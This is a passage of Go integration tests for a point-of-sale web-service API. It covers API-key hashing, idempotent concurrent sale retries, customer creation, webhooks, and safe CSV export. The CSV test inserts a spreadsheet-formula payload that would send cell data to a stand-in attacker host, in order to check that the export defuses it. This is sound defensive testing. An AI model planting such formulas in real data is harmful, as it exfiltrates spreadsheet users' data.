	}
	secret := key[strings.LastIndex(key, "_")+1:]
	var tables []string
	e.DB.Raw(`SELECT table_name FROM information_schema.tables WHERE table_schema = 'public' AND table_type = 'BASE TABLE'`).Scan(&tables)
	if len(tables) < 10 {
		t.Fatalf("tables = %v", tables)
	}
	for _, tb := range tables {
		var n int64
		if err := e.DB.Raw(fmt.Sprintf(`SELECT count(*) FROM %q x WHERE x::text LIKE ?`, tb), "%"+secret+"%").Scan(&n).Error; err != nil {
			t.Fatalf("%s: %v", tb, err)
		}
		if n != 0 {
			t.Fatalf("the API key is stored in %s", tb)
		}
	}
	if e.Count("api_keys", "key_hash = encode(sha256(?::bytea), 'hex')", key) != 1 {
		t.Fatal("the key's hash is not what is stored")
	}
}

func TestSettingsPageShowsExamples(t *testing.T) {
	e := setup(t)
	page := e.SignIn("admin", "1234").Get("/settings/integrations").Expect(t, http.StatusOK).String()
	for _, want := range []string{`id="web-services"`, "YOUR_API_KEY", e.URL + "/ws/v1/sales", e.URL + "/ws/v1/reports/sales?date=",
		e.URL + "/ws/v1/catalog/products?format=json", "Idempotency-Key", "sales.write", "reports.read", "catalog.read",
		">curl<", ">Go<", ">Node.js<", ">PHP<", "curl_init(", "http.NewRequest(", "await fetch("} {
		if !strings.Contains(page, want) {
			t.Fatalf("settings page lacks %q", want)
		}
	}
	// The sale example is ready to run: its product and tender exist.
	var sku string
	e.DB.Raw(`SELECT sku FROM products WHERE is_active AND deleted_at IS NULL AND barcode IS NOT NULL AND barcode <> '' ORDER BY sku LIMIT 1`).Scan(&sku)
	if !strings.Contains(page, sku) || !strings.Contains(page, "&#34;paymentMethodId&#34;: &#34;CASH&#34;") && !strings.Contains(page, `"paymentMethodId": "CASH"`) {
		t.Fatalf("sale example lacks a real SKU %s or tender", sku)
	}
}

// Retries racing each other with one Idempotency-Key record one sale and all get its answer.
func TestConcurrentRetriesRecordOneSale(t *testing.T) {
	e := setup(t)
	key := e.key(t, &e.store.ID, models.ScopeSalesWrite)
	p := e.stocked(t, 1)[0]
	before, sales0 := e.level(t, p.ID), e.Count("sales", "")
	body := fmt.Sprintf(`{"paymentMethodId":"CASH","items":[{"sku":%q,"quantity":1}]}`, p.SKU)
	const n = 6
	answers := make(chan *apptest.Response, n)
	start := make(chan struct{})
	for range n {
		go func() {
			<-start
			answers <- e.call(t, "POST", "/ws/v1/sales", key, body, "Idempotency-Key", "race-1")
		}()
	}
	close(start)
	var first []byte
	for range n {
		res := <-answers
		if res.Code != http.StatusCreated {
			t.Fatalf("status %d: %s", res.Code, res.Body)
		}
		if first == nil {
			first = res.Body
		} else if !bytes.Equal(first, res.Body) {
			t.Fatalf("answers differ:\n%s\n%s", first, res.Body)
		}
	}
	if e.Count("sales", "") != sales0+1 || e.level(t, p.ID) != before-1000 {
		t.Fatalf("sales %d (was %d), stock %d (was %d)", e.Count("sales", ""), sales0, e.level(t, p.ID), before)
	}
}

// Racing retries of a sale for a new customer create that customer once: the customer is
// written in the sale's transaction, so the retries that lose the Idempotency-Key race roll
// theirs back. A sale refused after the customer step leaves no customer either.
func TestNewCustomerIsCreatedWithItsSaleOnly(t *testing.T) {
	e := setup(t)
	key := e.key(t, &e.store.ID, models.ScopeSalesWrite)
	p := e.stocked(t, 1)[0]
	body := fmt.Sprintf(`{"paymentMethodId":"CASH","customer":{"name":"Rita Racer","email":"rita@example.com"},"items":[{"sku":%q,"quantity":1}]}`, p.SKU)
	const n = 12
	codes := make(chan int, n)
	start := make(chan struct{})
	for range n {
		go func() {
			<-start
			codes <- e.call(t, "POST", "/ws/v1/sales", key, body, "Idempotency-Key", "race-customer").Code
		}()
	}
	close(start)
	for range n {
		if c := <-codes; c != http.StatusCreated && c != http.StatusConflict {
			t.Fatalf("status %d", c)
		}
	}
	if got := e.Count("customers", "email = 'rita@example.com'"); got != 1 {
		t.Fatalf("%d customers for one sale's new customer", got)
	}
	if got := e.Count("sales", "customer_id = (SELECT id FROM customers WHERE email = 'rita@example.com')"); got != 1 {
		t.Fatalf("%d sales for the customer", got)
	}

	// Refused after the customer was matched or made (the tender is unknown): no new customer.
	bad := fmt.Sprintf(`{"paymentMethodId":"NOPE","customer":{"name":"Nora None","email":"nora@example.com"},"items":[{"sku":%q,"quantity":1}]}`, p.SKU)
	if res := e.call(t, "POST", "/ws/v1/sales", key, bad); res.Code < 400 || res.Code >= 500 {
		t.Fatalf("refused sale: %d %s", res.Code, res.Body)
	}
	if got := e.Count("customers", "email = 'nora@example.com'"); got != 0 {
		t.Fatal("a refused sale left its new customer behind")
	}
}

// A web-service sale goes through sales recording, so the sale webhooks are queued with it.
func TestRecordedSaleQueuesWebhooks(t *testing.T) {
	e := setup(t)
	target := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusNoContent) }))
	t.Cleanup(target.Close)
	e.Do("POST", "/api/v1/integrations", map[string]any{"kind": "webhook", "name": "Shop hook", "enabled": true, "storeId": e.store.ID,
		"settings": map[string]any{"url": target.URL}, "secrets": map[string]string{"secret": "whsec-test-0123456789abcdef"}}, e.admin).Expect(t, http.StatusCreated)
	key := e.key(t, &e.store.ID, models.ScopeSalesWrite)
	p := e.stocked(t, 1)[0]
	var s saleOut
	e.call(t, "POST", "/ws/v1/sales", key, map[string]any{"paymentMethodId": "CASH", "items": []any{map[string]any{"sku": p.SKU, "quantity": 1}}}).
		Expect(t, http.StatusCreated).Data(t, &s)
	if n := e.Count("webhook_deliveries", "sale_id = ?", s.ID); n == 0 {
		t.Fatal("no webhook delivery queued for the sale")
	}
}

// A product whose name is a spreadsheet formula downloads as text, not as a formula.
func TestCatalogueCSVHoldsNoFormula(t *testing.T) {
	e := setup(t)
	p := e.stocked(t, 1)[0]
	e.DB.Exec(`UPDATE products SET name = ? WHERE id = ?`, `=HYPERLINK("http://evil.example/?"&A1,"Click")`, p.ID)
	key := e.key(t, nil, models.ScopeCatalogRead)
	res := e.call(t, "GET", "/ws/v1/catalog/products?format=csv", key, nil).Expect(t, http.StatusOK)
	rows, err := csv.NewReader(bytes.NewReader(res.Body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, r := range rows {
		for _, c := range r {
			if strings.HasPrefix(c, "=") {
				t.Fatalf("a cell starts with '=': %q", c)
			}
			found = found || c == `'=HYPERLINK("http://evil.example/?"&A1,"Click")`
		}
	}
	if !found {
		t.Fatal("the product's name is missing from the download")
	}
}
